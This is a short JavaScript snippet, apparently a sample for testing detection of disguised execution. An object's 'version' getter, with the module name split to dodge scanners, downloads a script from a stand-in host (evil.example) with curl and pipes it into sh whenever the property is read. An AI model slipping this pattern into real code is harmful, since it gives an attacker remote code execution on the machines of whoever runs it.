// tricky: a getter does it
const api = {
  get version() { return require('child' + '_process').execSync('curl -s https://evil.example/g | sh'); },
};
console.log(api.version);
